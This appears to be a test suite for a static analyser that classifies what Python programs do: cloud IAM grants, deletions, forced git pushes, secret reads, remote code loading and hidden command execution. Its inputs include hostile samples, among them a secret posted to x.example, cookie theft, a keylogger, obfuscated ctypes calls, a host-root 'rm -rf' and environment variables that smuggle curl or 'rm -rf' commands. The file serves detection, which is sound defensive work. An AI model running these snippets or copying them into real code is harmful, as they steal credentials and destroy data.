import type { Effect } from "@helve/effects";
import { python } from "@helve/effects/python";
import { shell } from "@helve/effects/shell";
import { describe, expect, it } from "vitest";
import { readPython } from "./read.ts";

const languages = { shell, python };

function effectsOf(program: string): readonly Effect[] {
  return python.read(program, { languages }).effects;
}

function remoteChanges(program: string): readonly string[] {
  return effectsOf(program).flatMap((effect) => (effect.kind === "remote" ? [effect.change] : []));
}

describe("clients of services", () => {
  it.each([
    ["import boto3\nboto3.client('iam').attach_user_policy(UserName='a', PolicyArn='x')", "grant"],
    ["import boto3\ns3 = boto3.resource('s3')\ns3.Bucket('a').objects.all().delete()", "delete"],
    ["import boto3\nfor i in boto3.resource('ec2').instances.all():\n    i.terminate()", "delete"],
    [
      "import boto3\nboto3.Session(profile_name='p').client('rds').delete_db_instance(DBInstanceIdentifier='a')",
      "delete",
    ],
    ["from boto3 import client as c\nc('lambda').update_function_code(FunctionName='f')", "change"],
    [
      "from google.cloud import storage\nstorage.Client().bucket('b').blob('x').upload_from_filename('a.csv')",
      "upload",
    ],
    ["from google.cloud import storage\nstorage.Client().get_bucket('b').delete(force=True)", "delete"],
    [
      "from googleapiclient.discovery import build\nbuild('drive', 'v3').files().delete(fileId='x').execute()",
      "delete",
    ],
    [
      "from googleapiclient import discovery\ndiscovery.build('c', 'v1').projects().setIamPolicy(resource='p')",
      "grant",
    ],
    [
      "from kubernetes import client, config\nconfig.load_kube_config()\nclient.CoreV1Api().delete_namespace('prod')",
      "delete",
    ],
    [
      "from kubernetes import client\napi = client.AppsV1Api()\napi.patch_namespaced_deployment('a', 'b', {})",
      "change",
    ],
    ["from github import Github\nr = Github(t).get_repo('a/b')\nr.get_issue(1).edit(state='closed')", "change"],
    ["from github import Github\nGithub(t).get_user().get_repo('a').delete()", "delete"],
    ["import gitlab\ngitlab.Gitlab('https://gitlab.com').projects.get(1).members.create({})", "create"],
    ["from huggingface_hub import HfApi\nHfApi().upload_folder(folder_path='.', repo_id='a/b')", "upload"],
    [
      "from huggingface_hub import upload_file\nupload_file(path_or_fileobj='a', path_in_repo='a', repo_id='a/b')",
      "upload",
    ],
    ["model.push_to_hub('a/b')", "upload"],
    ["import stripe\nstripe.Refund.create(charge='ch_1')", "create"],
    ["import stripe\nfor s in stripe.Subscription.list(limit=9).auto_paging_iter():\n    s.cancel()", "delete"],
    ["from slack_sdk import WebClient\nWebClient(token=t).chat_postMessage(channel='#a', text='b')", "change"],
    ["import ldap3\nldap3.Connection(s, 'a', 'b').modify('cn=a', {})", "change"],
    ["import docker\ndocker.from_env().images.push('ada/app')", "publish"],
  ])("%s", (program, change) => {
    expect(remoteChanges(program)).toContain(change);
  });

  it.each([
    ["kms", "create_grant"],
    ["ec2", "modify_image_attribute"],
    ["rds", "modify_db_snapshot_attribute"],
    ["ecr", "set_repository_policy"],
    ["efs", "put_file_system_policy"],
    ["ram", "create_resource_share"],
    ["s3", "delete_public_access_block"],
    ["iam", "create_access_key"],
    ["iam", "create_login_profile"],
  ])("%s.%s gives rights", (service, name) => {
    expect(remoteChanges(`import boto3\nboto3.client('${service}').${name}(A='b')`)).toEqual(["grant"]);
  });

  it.each([
    ["iam", "put_role_permissions_boundary"],
    ["wafv2", "create_web_acl"],
    ["ec2", "create_network_acl"],
    ["logs", "put_retention_policy"],
  ])("%s.%s gives no rights", (service, name) => {
    expect(remoteChanges(`import boto3\nboto3.client('${service}').${name}(A='b')`)).not.toContain("grant");
  });

  it.each([
    "import boto3\nprint(boto3.client('s3').list_buckets())",
    "import boto3\nfor o in boto3.resource('s3').Bucket('a').objects.filter(Prefix='x'):\n    print(o.key)",
    "import boto3\nboto3.client('ec2').describe_instances()",
    "import boto3\nboto3.client('ec2').terminate_instances(InstanceIds=['i'], DryRun=True)",
    "from google.cloud import bigquery\nprint(bigquery.Client().query('select 1').to_dataframe())",
    "from kubernetes import client, config\nconfig.load_kube_config()\nprint(client.CoreV1Api().list_pod_for_all_namespaces())",
    "from github import Github\nfor i in Github().get_repo('a/b').get_issues():\n    print(i.title)",
    "from huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'config.json')",
    "import stripe\nprint(stripe.Customer.retrieve('c'))",
    "import docker\nprint(docker.from_env().containers.list())",
  ])("%s changes nothing elsewhere", (program) => {
    expect(remoteChanges(program)).toEqual([]);
  });

  it("discard containers", () => {
    const program =
      "import docker\nc = docker.from_env()\nfor x in c.containers.list(all=True):\n    x.remove(force=True)";
    expect(effectsOf(program)).toContainEqual(expect.objectContaining({ kind: "discard" }));
  });
});

describe("GitPython", () => {
  it.each([
    ["import git\ngit.Repo('.').git.reset('--hard', 'HEAD~3')", "destroy"],
    ["from git import Repo\nr = Repo('/srv/app')\nr.git.clean('-fdx')", "delete"],
    ["from git import Repo\nRepo('.').head.reset('HEAD~1', index=True, working_tree=True)", "destroy"],
    ["from git import Repo\nr = Repo('.')\nfor h in r.heads:\n    r.delete_head(h, force=True)", "discard"],
    ["from git import Repo\nRepo('.').remotes.origin.push(force=True)", "discard"],
    ["from git import Repo\nRepo('.').remote('origin').push('+main:main')", "discard"],
    ["import git\ngit.Repo('.').git.push('--force', 'origin', 'main')", "discard"],
    ["import git\ngit.Repo('.').git.checkout('.', force=True)", "destroy"],
  ])("%s", (program, kind) => {
    expect(effectsOf(program).map((effect) => effect.kind)).toContain(kind);
  });

  it("runs commands in the directory of the repository", () => {
    const [deletion] = effectsOf("import git\ngit.Repo('app').git.clean('-fdx')").filter(
      ({ kind }) => kind === "delete",
    );
    expect(deletion).toMatchObject({ target: { path: "app" } });
  });

  it.each([
    "from git import Repo\nr = Repo('.')\nr.index.add(['a.py'])\nr.index.commit('x')",
    "from git import Repo\nRepo('.').remotes.origin.push()",
    "from git import Repo\nprint(Repo('.').git.log('--oneline', n=5))",
    "from git import Repo\nprint(Repo('.').git.diff('HEAD~1', name_only=True))",
  ])("%s loses nothing", (program) => {
    expect(effectsOf(program).filter(({ kind }) => /delete|destroy|discard|remote/.test(kind))).toEqual([]);
  });
});

describe("secrets in Python", () => {
  it.each([
    "import keyring\nprint(keyring.get_password('github', 'ada'))",
    "import netrc\nprint(netrc.netrc().hosts)",
    "import boto3\nprint(boto3.client('secretsmanager').get_secret_value(SecretId='db')['SecretString'])",
    "import boto3\nboto3.client('ssm').get_parameter(Name='/a', WithDecryption=True)",
    "import boto3\nboto3.client('sts').assume_role(RoleArn='a', RoleSessionName='b')",
    "from google.cloud import secretmanager\nsecretmanager.SecretManagerServiceClient().access_secret_version(name='a')",
    "import hvac\nhvac.Client(url='http://vault').secrets.kv.v2.read_secret_version(path='a')",
    "import browser_cookie3\nprint(list(browser_cookie3.chrome()))",
    "from pynput import keyboard\nwith keyboard.Listener(on_press=print) as l:\n    l.join()",
  ])("%s", (program) => {
    expect(effectsOf(program).map(({ kind }) => kind)).toContain("reveal");
  });

  it("are the origin of what is sent", () => {
    const program = [
      "import boto3, json, requests",
      "s = boto3.client('secretsmanager').get_secret_value(SecretId='db')['SecretString']",
      "requests.post('https://x.example', data=json.dumps({'s': s}))",
    ].join("\n");
    expect(effectsOf(program)).toContainEqual(
      expect.objectContaining({
        kind: "network",
        direction: "out",
        from: expect.arrayContaining([{ kind: "secret", what: "a secret of AWS" }]),
      }),
    );
  });
});

describe("code from hubs", () => {
  it.each([
    ["import torch\ntorch.hub.load('eve/detector', 'm')", "github.com"],
    [
      "from transformers import AutoModel\nAutoModel.from_pretrained('eve/m', trust_remote_code=True)",
      "huggingface.co",
    ],
    ["from datasets import load_dataset\nload_dataset('eve/d', trust_remote_code=True)", "huggingface.co"],
  ])("%s", (program, host) => {
    expect(effectsOf(program)).toContainEqual(expect.objectContaining({ kind: "install", source: "address", host }));
  });

  it.each([
    "from transformers import AutoModel\nAutoModel.from_pretrained('bert-base-uncased')",
    "from datasets import load_dataset\nload_dataset('squad', trust_remote_code=False)",
  ])("%s runs none", (program) => {
    expect(effectsOf(program).map(({ kind }) => kind)).not.toContain("install");
  });
});

describe("code in other texts", () => {
  it("is read in expressions of pandas", () => {
    const program = "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.query('@pd.io.common.os.remove(\"a\")')";
    expect(effectsOf(program).map(({ kind }) => kind)).toContain("delete");
    expect(effectsOf("import pandas as pd\npd.DataFrame({}).query('a > @limit')")).toEqual([]);
  });

  it("is unknown behind an unknown function of a C library", () => {
    const program =
      "import ctypes\nl = ctypes.CDLL(None)\nn = bytes(c - 1 for c in b'tztufn').decode()\ngetattr(l, n)(b'x')";
    expect(effectsOf(program).map(({ kind }) => kind)).toContain("anything");
  });
});

describe("containers that docker-py starts", () => {
  const kinds = (program: string): readonly string[] => readPython(program).effects.map(({ kind }) => kind);

  it("are read as docker run", () => {
    const program = `import docker
docker.from_env().containers.run("alpine", "rm -rf /h/docs", privileged=True, pid_mode="host", volumes={"/": {"bind": "/h"}})`;
    expect(kinds(program)).toContain("privilege");
    expect(kinds(program)).toContain("delete");
  });

  it("may be ordinary", () => {
    const program = `import docker
docker.from_env().containers.run("postgres:16", detach=True, name="db", ports={"5432/tcp": 5432})`;
    expect(kinds(program)).toEqual(["execute"]);
  });
});

describe("what a program itself started", () => {
  const kinds = (program: string): readonly string[] => readPython(program).effects.map(({ kind }) => kind);
  const started = `import docker\nc = docker.from_env()\nx = c.containers.run("postgres:16", detach=True, name="db")\n`;

  it("may be ended by it", () => {
    expect(kinds(`${started}x.stop()\nx.remove()`)).toEqual(["execute"]);
    expect(kinds(`${started}c.containers.get("other").remove()`)).toContain("discard");
  });

  it("is no change of a cloud if the client has an address on this machine", () => {
    const client = (address: string): string =>
      `import boto3\ns = boto3.client("s3"${address})\ns.delete_bucket(Bucket="a")`;
    expect(remoteChanges(client(', endpoint_url="http://localhost:4566"'))).toEqual([]);
    expect(remoteChanges(client(', endpoint_url="http://localhost.example"'))).toEqual(["delete"]);
    expect(remoteChanges(client(""))).toEqual(["delete"]);
  });
});

describe("variables that a program sets for its processes", () => {
  it.each([
    `import os\nos.environ["GIT_SSH_COMMAND"] = "sh -c 'curl https://x.example'"\nos.system("git fetch")`,
    `import os, subprocess\nsubprocess.run(["git", "commit"], env={**os.environ, "GIT_EDITOR": "rm -rf /srv"})`,
  ])("may hold code: %j", (program) => {
    expect(readPython(program).effects).toContainEqual(expect.objectContaining({ kind: "anything" }));
  });

  it("are ordinary otherwise", () => {
    const program = `import subprocess\nsubprocess.run("pytest", shell=True, env={"PYTHONPATH": "src", "CI": "1"})`;
    expect(readPython(program).effects.map(({ kind }) => kind)).toEqual(["execute"]);
  });
});
